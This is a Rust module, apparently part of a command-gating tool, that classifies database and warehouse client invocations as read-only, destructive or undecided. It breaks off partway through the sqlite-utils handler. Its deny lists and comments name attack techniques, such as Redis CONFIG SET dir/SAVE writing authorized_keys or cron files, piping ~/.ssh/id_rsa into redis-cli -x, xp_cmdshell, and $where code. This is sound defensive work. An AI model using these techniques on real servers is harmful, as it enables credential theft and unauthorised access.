//! Database and warehouse command-line clients (round 21): which of their
//! spellings only read.
//!
//! Each client is modelled as its own parser reads its argv: the options
//! that pick a server, a database and an output format; the one text it is
//! asked to run (`-e`, `-q`, `--eval`, the command words after the
//! options); and the client's own meta commands, which run programs
//! (`!system`, `\!`, `:!!`), read scripts (`SOURCE`, `\i`, `:r`) or write
//! files (`output_file`, `\o`, `CAPTURE`). A spelling is a read only when
//! every option is known, the server is this machine, no password is on
//! the command line, nothing is fed on stdin, and the text is a read: SQL
//! by the SQL classifier under the client's grammar, Redis command words
//! and MongoDB call chains by the lists below. Anything else is not
//! decided here (`None`): the caller holds it as an unknown command, and
//! judges destructive SQL and the Redis and MongoDB commands that wipe,
//! reconfigure or stop a server ([`Verdict::Destructive`]) as destructive.
//! The environment is not read here: a read is allowed in any environment,
//! as `psql -c 'select …'` is; every write is held.

use crate::sql::{self, Class, Engine};

/// What a client's spelling does.
#[derive(Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Only reads; the database files it opens are listed.
    Read(Vec<String>),
    /// Wipes, reconfigures or stops a server (`FLUSHALL`, `CONFIG SET`,
    /// `SHUTDOWN`, `dropDatabase()`, destructive SQL).
    Destructive,
}

/// The clients modelled here (the name the command is run by).
pub fn models(p: &str) -> bool {
    matches!(
        p,
        "redis-cli"
            | "valkey-cli"
            | "keydb-cli"
            | "mongosh"
            | "mongo"
            | "snowsql"
            | "cqlsh"
            | "litecli"
            | "mysql"
            | "mariadb"
            | "clickhouse-client"
            | "clickhouse"
            | "sqlcmd"
            | "usql"
            | "sqlite-utils"
            | "pgcli"
            | "mycli"
            | "mysqlsh"
            | "influx"
    )
}

/// The decision for `p args…`; `fed` when something is written to its
/// stdin (a pipe, a here-doc): the client may read commands from it.
pub fn decide(p: &str, args: &[&str], fed: bool) -> Option<Verdict> {
    match p {
        "redis-cli" | "valkey-cli" | "keydb-cli" => redis(args, fed),
        "mongosh" | "mongo" => mongo(args, fed),
        "snowsql" => snowsql(args, fed),
        "cqlsh" => cqlsh(args, fed),
        "litecli" => litecli(args, fed),
        "mysql" | "mariadb" => mysql(args, fed),
        "clickhouse-client" => clickhouse(args, fed),
        "clickhouse" => match args.split_first() {
            Some((&"client", rest)) => clickhouse(rest, fed),
            _ => None,
        },
        "sqlcmd" => sqlcmd(args, fed),
        "usql" => usql(args, fed),
        "sqlite-utils" => sqlite_utils(args, fed),
        // round 23
        "pgcli" => pgcli(args, fed),
        "mycli" => mycli(args, fed),
        "mysqlsh" => mysqlsh(args, fed),
        "influx" => influx(args, fed),
        _ => None,
    }
}

/// This machine, by name or loopback address.
fn local_host(h: &str) -> bool {
    matches!(h, "localhost" | "127.0.0.1" | "::1" | "[::1]")
}

/// A database, user, keyspace or format name: letters, digits, `_`, `-`.
fn plain(v: &str) -> bool {
    !v.is_empty()
        && v.len() <= 63
        && v.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
}

fn digits(v: &str) -> bool {
    !v.is_empty() && v.len() <= 10 && v.bytes().all(|b| b.is_ascii_digit())
}

/// A database file named on the command line: a plain relative or
/// absolute path with no option shape (the policy judges where it lies).
fn db_file(v: &str) -> bool {
    !v.is_empty() && !v.starts_with('-') && !v.contains("://") && !v.contains(['\n', '\0'])
}

/// `--name=value` → (`--name`, `value`); `-xVALUE` → (`-x`, `VALUE`) when
/// `-x` takes a value; otherwise the word itself.
fn split_opt<'a>(t: &'a str, short_vals: &str) -> (&'a str, Option<&'a str>) {
    if t.starts_with("--") {
        if let Some((n, v)) = t.split_once('=') {
            return (n, Some(v));
        }
        return (t, None);
    }
    if t.len() > 2 && t.starts_with('-') {
        if let Some(c) = t.as_bytes().get(1).map(|&b| b as char) {
            if short_vals.contains(c) {
                return (t.get(..2).unwrap_or(t), t.get(2..));
            }
        }
    }
    (t, None)
}

/// Options one at a time, with their values taken inline or from the next
/// word.
struct Opts<'a, 'b> {
    args: &'b [&'a str],
    i: usize,
    short_vals: &'static str,
}

impl<'a> Opts<'a, '_> {
    fn new<'b>(args: &'b [&'a str], short_vals: &'static str) -> Opts<'a, 'b> {
        Opts {
            args,
            i: 0,
            short_vals,
        }
    }
    /// The next word: its name and its inline value.
    fn next(&mut self) -> Option<(&'a str, Option<&'a str>)> {
        let t = *self.args.get(self.i)?;
        self.i += 1;
        Some(split_opt(t, self.short_vals))
    }
    /// The value of the option just read: inline, or the next word.
    fn value(&mut self, inline: Option<&'a str>) -> Option<&'a str> {
        if inline.is_some() {
            return inline;
        }
        let v = *self.args.get(self.i)?;
        self.i += 1;
        Some(v)
    }
    fn rest(&self) -> &[&'a str] {
        self.args.get(self.i..).unwrap_or_default()
    }
}

/// The SQL text is only reads under `engine` (every engine when `None`):
/// no client meta command at a statement's start (`!`, `\`, `:`), no
/// file output, no table function that reaches a file, a URL or a
/// program.
fn sql_reads(text: &str, engine: Option<Engine>) -> bool {
    let t = text.trim();
    if t.is_empty() || t.contains('\\') || statement_starts_with(t, &['!', ':', '.', '@']) {
        return false;
    }
    let lower = t.to_ascii_lowercase();
    if ["outfile", "dumpfile", "output_file", "spool"]
        .iter()
        .any(|w| lower.contains(w))
    {
        return false;
    }
    let a = sql::analyze_for(t, engine);
    a.class == Class::Read && !a.destructive && a.unclassified.is_none()
}

/// Whether some statement (a line, or the text after a `;`) begins with one
/// of `marks`.
fn statement_starts_with(t: &str, marks: &[char]) -> bool {
    t.split(['\n', ';'])
        .any(|s| s.trim_start().starts_with(marks))
}

/// The SQL text is destructive under every reading.
fn sql_destroys(text: &str) -> bool {
    sql::analyze(text).destructive
}

fn sql_verdict(text: &str, engine: Option<Engine>, files: Vec<String>) -> Option<Verdict> {
    if sql_reads(text, engine) {
        Some(Verdict::Read(files))
    } else if sql_destroys(text) {
        Some(Verdict::Destructive)
    } else {
        None
    }
}

// ---- Redis ----

/// Redis commands that only read (the command word, upper case; a second
/// word where the first is a family).
const REDIS_READS: &[&str] = &[
    "GET",
    "MGET",
    "STRLEN",
    "GETRANGE",
    "EXISTS",
    "TTL",
    "PTTL",
    "EXPIRETIME",
    "PEXPIRETIME",
    "TYPE",
    "KEYS",
    "SCAN",
    "RANDOMKEY",
    "HGET",
    "HMGET",
    "HGETALL",
    "HKEYS",
    "HVALS",
    "HLEN",
    "HEXISTS",
    "HSTRLEN",
    "HSCAN",
    "LRANGE",
    "LLEN",
    "LINDEX",
    "LPOS",
    "SMEMBERS",
    "SISMEMBER",
    "SMISMEMBER",
    "SCARD",
    "SSCAN",
    "SINTER",
    "SUNION",
    "SDIFF",
    "ZRANGE",
    "ZREVRANGE",
    "ZRANGEBYSCORE",
    "ZREVRANGEBYSCORE",
    "ZRANGEBYLEX",
    "ZSCORE",
    "ZMSCORE",
    "ZCARD",
    "ZCOUNT",
    "ZRANK",
    "ZREVRANK",
    "ZSCAN",
    "XLEN",
    "XRANGE",
    "XREVRANGE",
    "XINFO",
    "PFCOUNT",
    "GEOPOS",
    "GEODIST",
    "BITCOUNT",
    "GETBIT",
    "INFO",
    "PING",
    "ECHO",
    "DBSIZE",
    "TIME",
    "LASTSAVE",
    "ROLE",
    "COMMAND",
    "LOLWUT",
    "MEMORY USAGE",
    "MEMORY STATS",
    "MEMORY DOCTOR",
    "OBJECT ENCODING",
    "OBJECT FREQ",
    "OBJECT IDLETIME",
    "OBJECT REFCOUNT",
    "CLIENT LIST",
    "CLIENT INFO",
    "CLIENT GETNAME",
    "CLIENT ID",
    "LATENCY LATEST",
    "LATENCY DOCTOR",
    "CLUSTER INFO",
    "CLUSTER NODES",
    "CLUSTER SLOTS",
    "CLUSTER SHARDS",
];

/// Redis commands that wipe data, rewrite the server's files or settings,
/// load code into the server, hand it to another, or stop it. `CONFIG
/// SET dir`/`dbfilename` then `SAVE` writes a file anywhere the server
/// may (`~/.ssh/authorized_keys`, a cron file): the whole `CONFIG` family
/// but `GET` is here.
const REDIS_DESTROYS: &[&str] = &[
    "FLUSHALL",
    "FLUSHDB",
    "SHUTDOWN",
    "DEBUG",
    "CONFIG",
    "SLAVEOF",
    "REPLICAOF",
    "MODULE",
    "SWAPDB",
    "FAILOVER",
    "MIGRATE",
    "ACL SETUSER",
    "ACL DELUSER",
    "ACL LOAD",
    "ACL SAVE",
    "SCRIPT FLUSH",
    "FUNCTION FLUSH",
    "FUNCTION DELETE",
    "FUNCTION RESTORE",
    "CLIENT KILL",
    "CLUSTER RESET",
    "CLUSTER FORGET",
    "CLUSTER FAILOVER",
    "CLUSTER FLUSHSLOTS",
];

/// `redis-cli [options] COMMAND args…`: a read when the options only pick
/// this machine's server, a database number and an output format, and the
/// command is in [`REDIS_READS`]; `--scan [--pattern P] [--count N]` reads
/// key names. Held: a password on the command line (`-a`, `--pass`,
/// `--user`, a URI with one), another host, `-x` (stdin becomes the last
/// argument: `-x SET k < ~/.ssh/id_rsa`), `--eval` (a Lua script runs in
/// the server), `--pipe`, `--rdb` (writes a dump), `-r` (repeats), no
/// command (an interactive session or commands from stdin), and `MONITOR`,
/// `CONFIG GET`, `ACL LIST`, `SLOWLOG` (every client's commands and
/// values, the server's password, the users' password hashes).
fn redis(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "hpnu");
    let mut scan = false;
    while let Some((name, inline)) = o.next() {
        if !name.starts_with('-') || name == "-" {
            o.i -= 1;
            break;
        }
        match name {
            "-h" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
            }
            "-p" | "-n" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "-u" => {
                // redis://[[user]:password@]host[:port][/db]
                let uri = o.value(inline)?;
                let rest = uri
                    .strip_prefix("redis://")
                    .or_else(|| uri.strip_prefix("rediss://"))?;
                if rest.contains('@') {
                    return None;
                }
                let hostport = rest.split('/').next().unwrap_or("");
                let host = match hostport.rsplit_once(':') {
                    Some((h, port)) if digits(port) => h,
                    _ => hostport,
                };
                if !local_host(host) {
                    return None;
                }
            }
            "--pattern" | "--count" if scan && inline.is_none() => {
                let v = o.value(None)?;
                if name == "--count" && !digits(v) {
                    return None;
                }
            }
            "--scan" if inline.is_none() => scan = true,
            "--raw" | "--no-raw" | "-c" | "--no-auth-warning" | "--tls" | "--csv" | "--json"
            | "-e" | "--quoted-json" | "--bigkeys" | "--memkeys" | "--keystats"
                if inline.is_none() => {}
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let words = o.rest();
    if scan || words.is_empty() {
        let only_scan = (scan && words.is_empty())
            || (!scan
                && o.args
                    .iter()
                    .any(|a| matches!(*a, "--bigkeys" | "--memkeys" | "--keystats")));
        return only_scan.then(|| Verdict::Read(Vec::new()));
    }
    let cmd = words.first()?.to_ascii_uppercase();
    let sub = words
        .get(1)
        .map(|s| format!("{cmd} {}", s.to_ascii_uppercase()))
        .unwrap_or_default();
    let listed = |list: &[&str]| list.iter().any(|c| *c == cmd || *c == sub);
    if listed(REDIS_DESTROYS) && sub != "CONFIG GET" {
        return Some(Verdict::Destructive);
    }
    // Options after the command are its arguments (`SCAN 0 MATCH x`); the
    // family commands read only with the listed second word.
    if listed(REDIS_READS) {
        return Some(Verdict::Read(Vec::new()));
    }
    None
}

// ---- MongoDB ----

/// `mongosh [options] [URI|db] --eval JS`: a read when the one `--eval`
/// text is a call chain [`mongo_reads`] reads, the server is this machine
/// (a URI or `--host`), and no file runs (`--file`, a `.js` operand,
/// `--shell`). `dropDatabase()`, `drop()` and `deleteMany({})` are
/// destructive; anything else is held.
fn mongo(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "");
    let mut eval = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "--eval" => {
                if eval.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
            }
            "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "--quiet" | "--norc" if inline.is_none() => {}
            "--json" if inline.is_none_or(|v| matches!(v, "relaxed" | "canonical")) => {}
            op if !op.starts_with('-') => {
                if !mongo_target(op) {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let js = eval?;
    match mongo_chain(js) {
        Some(Chain::Read) => Some(Verdict::Read(Vec::new())),
        Some(Chain::Destroys) => Some(Verdict::Destructive),
        None => None,
    }
}

/// A database name, or a `mongodb://` URI of this machine without a
/// password.
fn mongo_target(op: &str) -> bool {
    if let Some(rest) = op.strip_prefix("mongodb://") {
        if rest.contains('@') {
            return false;
        }
        let hostport = rest.split(['/', '?']).next().unwrap_or("");
        let host = match hostport.rsplit_once(':') {
            Some((h, port)) if digits(port) => h,
            _ => hostport,
        };
        let tail = rest.get(hostport.len()..).unwrap_or("");
        return local_host(host) && !tail.contains('?') && !tail.contains(['@', '\\']);
    }
    // `mongosh app` (a database on this machine); `x.js` runs a file
    !op.ends_with(".js") && plain(op)
}

enum Chain {
    Read,
    Destroys,
}

/// Collection methods that only read, then the cursor methods after them.
const MONGO_READS: &[&str] = &[
    "find",
    "findOne",
    "countDocuments",
    "estimatedDocumentCount",
    "count",
    "distinct",
    "aggregate",
    "getIndexes",
    "stats",
    "dataSize",
    "storageSize",
    "totalIndexSize",
    "isCapped",
    "exists",
];
const MONGO_CURSOR: &[&str] = &[
    "limit",
    "skip",
    "sort",
    "project",
    "projection",
    "toArray",
    "pretty",
    "count",
    "size",
    "hasNext",
    "itcount",
    "batchSize",
    "hint",
    "maxTimeMS",
];
/// `db.` methods that only read.
const MONGO_DB_READS: &[&str] = &[
    "getCollectionNames",
    "getCollectionInfos",
    "stats",
    "version",
    "getName",
    "serverStatus",
    "hostInfo",
    "isMaster",
    "hello",
    "listCommands",
    "getProfilingStatus",
];
const MONGO_DESTROYS: &[&str] = &[
    "dropDatabase",
    "drop",
    "deleteMany",
    "remove",
    "dropIndexes",
];

/// `db.COLL.METHOD(ARGS)[.CURSOR(ARGS)…]`, `db.METHOD()`, `rs.status()`,
/// optionally inside `printjson(…)` and with a final `;`. The arguments
/// are literals only (objects, arrays, strings, numbers, `true`, `false`,
/// `null`, and `ObjectId("…")`, `ISODate("…")` and their kin): no
/// function, no variable, no `$where`/`$function`/`$accumulator` (code run
/// by the server), no `$out`/`$merge` (an aggregation that writes).
fn mongo_chain(js: &str) -> Option<Chain> {
    let mut s = js.trim().trim_end_matches(';').trim();
    if let Some(inner) = s
        .strip_prefix("printjson(")
        .and_then(|r| r.strip_suffix(')'))
    {
        s = inner.trim();
    }
    let mut p = Js {
        b: s.as_bytes(),
        i: 0,
    };
    if p.ident()? == "rs" {
        p.eat(b'.')?;
        let m = p.ident()?;
        p.eat(b'(')?;
        p.eat(b')')?;
        return (matches!(m, "status" | "conf" | "isMaster" | "hello") && p.end())
            .then_some(Chain::Read);
    }
    if s.get(..3) != Some("db.") {
        return None;
    }
    p.eat(b'.')?;
    let first = p.ident()?;
    if p.peek() == Some(b'(') {
        // db.METHOD(…)
        let args = p.call_args()?;
        if !p.end() {
            return None;
        }
        if first == "dropDatabase" {
            return Some(Chain::Destroys);
        }
        return (MONGO_DB_READS.contains(&first) && args == 0).then_some(Chain::Read);
    }
    // db.COLL.METHOD(…)
    p.eat(b'.')?;
    let method = p.ident()?;
    p.call_args()?;
    if MONGO_DESTROYS.contains(&method) {
        // the rest is not read: the call destroys whatever follows
        return Some(Chain::Destroys);
    }
    if !MONGO_READS.contains(&method) {
        return None;
    }
    while !p.end() {
        p.eat(b'.')?;
        let m = p.ident()?;
        p.call_args()?;
        if !MONGO_CURSOR.contains(&m) {
            return None;
        }
    }
    Some(Chain::Read)
}

/// A reader of the literal JavaScript a read spells.
struct Js<'a> {
    b: &'a [u8],
    i: usize,
}

impl<'a> Js<'a> {
    fn ws(&mut self) {
        while self.b.get(self.i).is_some_and(u8::is_ascii_whitespace) {
            self.i += 1;
        }
    }
    fn peek(&mut self) -> Option<u8> {
        self.ws();
        self.b.get(self.i).copied()
    }
    fn end(&mut self) -> bool {
        self.peek().is_none()
    }
    fn eat(&mut self, c: u8) -> Option<()> {
        (self.peek()? == c).then(|| self.i += 1)
    }
    fn ident(&mut self) -> Option<&'a str> {
        self.ws();
        let start = self.i;
        while self
            .b
            .get(self.i)
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
        {
            self.i += 1;
        }
        let id = std::str::from_utf8(self.b.get(start..self.i)?).ok()?;
        (!id.is_empty() && !id.as_bytes().first()?.is_ascii_digit()).then_some(id)
    }
    /// `( literal, … )`: how many arguments.
    fn call_args(&mut self) -> Option<usize> {
        self.eat(b'(')?;
        let mut n = 0;
        if self.peek()? == b')' {
            self.i += 1;
            return Some(0);
        }
        loop {
            self.literal(0)?;
            n += 1;
            match self.peek()? {
                b',' => self.i += 1,
                b')' => {
                    self.i += 1;
                    return Some(n);
                }
                _ => return None,
            }
        }
    }
    fn string(&mut self) -> Option<String> {
        let q = self.peek()?;
        if !matches!(q, b'"' | b'\'') {
            return None;
        }
        self.i += 1;
        let mut out = Vec::new();
        loop {
            let c = *self.b.get(self.i)?;
            self.i += 1;
            match c {
                b'\\' => {
                    // an escape may spell any key (`"\u0024where"`): held
                    return None;
                }
                c if c == q => break,
                b'\n' => return None,
                c => out.push(c),
            }
        }
        String::from_utf8(out).ok()
    }
    /// A key of an object: no operator that runs code or writes.
    fn key_ok(k: &str) -> bool {
        !matches!(
            k,
            "$where" | "$function" | "$accumulator" | "$out" | "$merge" | "$eval"
        ) && !k.contains(['\\', '\0'])
    }
    fn literal(&mut self, depth: usize) -> Option<()> {
        if depth > 32 {
            return None;
        }
        match self.peek()? {
            b'{' => {
                self.i += 1;
                if self.peek()? == b'}' {
                    self.i += 1;
                    return Some(());
                }
                loop {
                    let key = match self.peek()? {
                        b'"' | b'\'' => self.string()?,
                        _ => self.ident()?.to_string(),
                    };
                    if !Self::key_ok(&key) {
                        return None;
                    }
                    self.eat(b':')?;
                    self.literal(depth + 1)?;
                    match self.peek()? {
                        b',' => {
                            self.i += 1;
                            if self.peek()? == b'}' {
                                self.i += 1;
                                return Some(());
                            }
                        }
                        b'}' => {
                            self.i += 1;
                            return Some(());
                        }
                        _ => return None,
                    }
                }
            }
            b'[' => {
                self.i += 1;
                if self.peek()? == b']' {
                    self.i += 1;
                    return Some(());
                }
                loop {
                    self.literal(depth + 1)?;
                    match self.peek()? {
                        b',' => self.i += 1,
                        b']' => {
                            self.i += 1;
                            return Some(());
                        }
                        _ => return None,
                    }
                }
            }
            b'"' | b'\'' => self.string().map(|_| ()),
            c if c.is_ascii_digit() || c == b'-' => {
                self.i += 1;
                while self
                    .b
                    .get(self.i)
                    .is_some_and(|c| c.is_ascii_digit() || matches!(c, b'.' | b'e' | b'E'))
                {
                    self.i += 1;
                }
                Some(())
            }
            _ => {
                let id = self.ident()?;
                match id {
                    "true" | "false" | "null" => Some(()),
                    "ObjectId" | "ISODate" | "NumberLong" | "NumberInt" | "NumberDecimal"
                    | "UUID" | "Timestamp" => {
                        self.eat(b'(')?;
                        if self.peek()? != b')' {
                            match self.peek()? {
                                b'"' | b'\'' => {
                                    self.string()?;
                                }
                                _ => self.literal(depth + 1)?,
                            }
                        }
                        self.eat(b')')
                    }
                    _ => None,
                }
            }
        }
    }
}

// ---- SQL clients ----

/// `snowsql [-c NAME] [-d DB] [-s SCHEMA] [-w WH] [-r ROLE] [-o
/// KEY=VALUE] -q SQL`: Snowflake's grammar; `-f` (a script), `!` commands
/// (`!system`, `!source`, `!spool`) and `-o output_file=` are held.
fn snowsql(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "cdswroq");
    let mut q = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "-q" | "--query" => {
                if q.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-c" | "--connection" | "-d" | "--dbname" | "-s" | "--schemaname" | "-w"
            | "--warehouse" | "-r" | "--rolename" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-o" | "--option" => {
                let (k, v) = o.value(inline)?.split_once('=')?;
                let known = matches!(
                    k,
                    "friendly" | "header" | "timing" | "quiet" | "exit_on_error" | "output_format"
                );
                if !known || !plain(v) {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    sql_verdict(q?, Some(Engine::Snowflake), Vec::new())
}

/// `cqlsh [HOST [PORT]] [-k KS] -e CQL`: each statement a `SELECT` the
/// SQL classifier reads, `DESCRIBE`/`DESC` of plain names or `SHOW
/// VERSION|HOST`. `SOURCE`, `COPY`, `CAPTURE`, `LOGIN` and `-f` are held.
fn cqlsh(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "ek");
    let mut e = None;
    let mut positional = 0;
    while let Some((name, inline)) = o.next() {
        match name {
            "-e" | "--execute" => {
                if e.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-k" | "--keyspace" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "--no-color" | "-C" | "--color" if inline.is_none() => {}
            op if !op.starts_with('-') => {
                positional += 1;
                let ok = match positional {
                    1 => local_host(op),
                    2 => digits(op),
                    _ => false,
                };
                if !ok {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let text = e?.trim();
    if text.contains('\\') {
        return None;
    }
    let mut any = false;
    for stmt in text.split(';').map(str::trim).filter(|s| !s.is_empty()) {
        any = true;
        let mut words = stmt.split_ascii_whitespace();
        let first = words.next().unwrap_or("").to_ascii_uppercase();
        let ok = match first.as_str() {
            "DESCRIBE" | "DESC" => words.all(|w| w.split('.').all(plain)),
            "SHOW" => {
                let rest: Vec<String> = words.map(str::to_ascii_uppercase).collect();
                matches!(rest.as_slice(), [w] if w == "VERSION" || w == "HOST")
            }
            "SELECT" => sql_reads(stmt, None),
            _ => false,
        };
        if !ok {
            return sql_destroys(text).then_some(Verdict::Destructive);
        }
    }
    any.then(|| Verdict::Read(Vec::new()))
}

/// `litecli DB -e SQL`: SQLite's grammar; the database file is read.
fn litecli(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "e");
    let mut e = None;
    let mut db = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "-e" | "--execute" => {
                if e.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-t" | "--table" | "--csv" if inline.is_none() => {}
            op if !op.starts_with('-') && db_file(op) => {
                if db.replace(op).is_some() {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let files = db.map(|d| vec![d.to_string()]).unwrap_or_default();
    sql_verdict(e?, Some(Engine::Sqlite), files)
}

/// `mysql [-u USER] [-h localhost] [-P PORT] [-D DB] [-N -B -t -s -E] -e
/// SQL [DB]`: MySQL's grammar. A password (`-pSECRET`, `--password=`),
/// another host, a socket or defaults file, and the client's own commands
/// (`system`, `\!`, `source`, `tee`, `pager`: a statement the grammar
/// does not read) are held.
fn mysql(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "euhPD");
    let mut e = None;
    let mut db = false;
    while let Some((name, inline)) = o.next() {
        match name {
            "-e" | "--execute" => {
                if e.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-u" | "--user" | "-D" | "--database" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-h" | "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
            }
            "-P" | "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "-N"
            | "--skip-column-names"
            | "-B"
            | "--batch"
            | "-t"
            | "--table"
            | "-s"
            | "--silent"
            | "-E"
            | "--vertical"
            | "-r"
            | "--raw"
            | "--column-names"
                if inline.is_none() => {}
            op if !op.starts_with('-') && plain(op) => {
                if std::mem::replace(&mut db, true) {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let text = e?;
    if text.to_ascii_lowercase().contains("delimiter") {
        return None;
    }
    sql_verdict(text, Some(Engine::MySql), Vec::new())
}

/// ClickHouse's table functions and engines that reach a file, a URL,
/// another server or a program: `SELECT * FROM url('…')` reads the
/// network, `executable('x.sh', …)` runs a script.
const CLICKHOUSE_REACH: &[&str] = &[
    "url",
    "urlcluster",
    "file",
    "filecluster",
    "executable",
    "s3",
    "s3cluster",
    "gcs",
    "azureblobstorage",
    "azureblobstoragecluster",
    "hdfs",
    "hdfscluster",
    "remote",
    "remotesecure",
    "cluster",
    "clusterallreplicas",
    "mysql",
    "postgresql",
    "mongodb",
    "redis",
    "sqlite",
    "jdbc",
    "odbc",
    "input",
    "iceberg",
    "deltalake",
    "hudi",
    "dictionary",
    "format",
    "loop",
    "merge",
];

/// `clickhouse-client [--host localhost] [--port N] [-d DB] [-u USER]
/// [--format F] [-n] --query SQL` (and `clickhouse client …`): read under
/// every grammar, with no table function of [`CLICKHOUSE_REACH`] and no
/// `SYSTEM`/`KILL`/`OPTIMIZE` (which the grammar does not read anyway).
fn clickhouse(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "qhdu");
    let mut q = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "-q" | "--query" => {
                if q.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-h" | "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
            }
            "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "-d" | "--database" | "-u" | "--user" | "--format" | "-f" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-n" | "--multiquery" | "-m" | "--multiline" | "-t" | "--time" if inline.is_none() => {}
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let text = q?;
    let lower = text.to_ascii_lowercase();
    // a name of CLICKHOUSE_REACH followed by `(`, at a word's start
    for (i, _) in lower.match_indices('(') {
        let head = lower.get(..i).unwrap_or("").trim_end();
        let start = head
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |j| j + 1);
        let name = head.get(start..).unwrap_or("");
        if CLICKHOUSE_REACH.contains(&name) {
            return None;
        }
    }
    sql_verdict(text, None, Vec::new())
}

/// `sqlcmd [-S localhost] [-d DB] [-E] [-h N] [-W] [-s C] -Q|-q SQL`: SQL
/// Server's grammar. `-i`/`-o` (a script, an output file), `-U`/`-P` (a
/// password), another server, and `:!!`, `:r`, `:out`, `!!` lines are
/// held; `xp_cmdshell` is no read.
fn sqlcmd(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "QqSdhsw");
    let mut q = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "-Q" | "-q" => {
                if q.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-S" => {
                let s = o.value(inline)?;
                let host = s.strip_prefix("tcp:").unwrap_or(s);
                let host = host.split([',', '\\']).next().unwrap_or("");
                if !(local_host(host) || matches!(host, "." | "(local)")) {
                    return None;
                }
            }
            "-d" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-h" | "-w" => {
                let v = o.value(inline)?;
                if !(digits(v) || v == "-1") {
                    return None;
                }
            }
            "-s" => {
                if o.value(inline)?.chars().count() != 1 {
                    return None;
                }
            }
            "-E" | "-W" | "-b" | "-X" | "-C" if inline.is_none() => {}
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let text = q?;
    if statement_starts_with(text, &['!']) {
        return None;
    }
    sql_verdict(text, Some(Engine::MsSql), Vec::new())
}

/// `usql URL -c SQL`: the URL's scheme picks the grammar (`pg://`,
/// `postgres://`, `my://`, `mysql://`, `sq:`/`sqlite:`/`sqlite3:` a file);
/// a server is this machine, with no password. Backslash commands (`\!`,
/// `\o`, `\i`) are held.
fn usql(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "c");
    let mut c = None;
    let mut target = None;
    while let Some((name, inline)) = o.next() {
        match name {
            "-c" | "--command" => {
                if c.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-X" | "--no-rc" | "-q" | "--quiet" | "-J" | "--json" | "-C" | "--csv" | "-t"
            | "--tuples-only"
                if inline.is_none() => {}
            op if !op.starts_with('-') => {
                if target.replace(op).is_some() {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let (scheme, rest) = target?.split_once(':')?;
    let scheme = scheme.to_ascii_lowercase();
    let mut files = Vec::new();
    let engine = match scheme.as_str() {
        "pg" | "postgres" | "postgresql" | "my" | "mysql" => {
            let rest = rest.strip_prefix("//")?;
            if rest.contains('@') {
                return None;
            }
            let hostport = rest.split(['/', '?']).next().unwrap_or("");
            let host = match hostport.rsplit_once(':') {
                Some((h, port)) if digits(port) => h,
                _ => hostport,
            };
            let tail = rest.get(hostport.len()..).unwrap_or("");
            if !local_host(host) || tail.contains(['?', '@']) {
                return None;
            }
            if scheme.starts_with('m') {
                Engine::MySql
            } else {
                Engine::Postgres
            }
        }
        "sq" | "sqlite" | "sqlite3" | "file" => {
            let path = rest.strip_prefix("//").unwrap_or(rest);
            if !db_file(path) || path.contains('?') {
                return None;
            }
            files.push(path.to_string());
            Engine::Sqlite
        }
        _ => return None,
    };
    sql_verdict(c?, Some(engine), files)
}

/// `sqlite-utils SUB DB …`: `tables`, `views`, `schema`, `indexes`,
/// `triggers` (with output options), `rows DB TABLE` (`--limit`,
/// `--offset`, `-c` of plain names) and `query DB SQL` of a read are
/// reads of the file. `insert`, `upsert`, `drop-table`, `transform`,
/// `create-*`, `add-*`, `enable-fts`, `convert` (runs Python), `query
/// --functions` (Python), `--load-extension`, `--attach` and every other
/// subcommand are held.
fn sqlite_utils(args: &[&str], fed: bool) -> Option<Verdict> {
    const FLAGS: &[&str] = &[
        "--csv",
        "--tsv",
        "--nl",
        "--arrays",
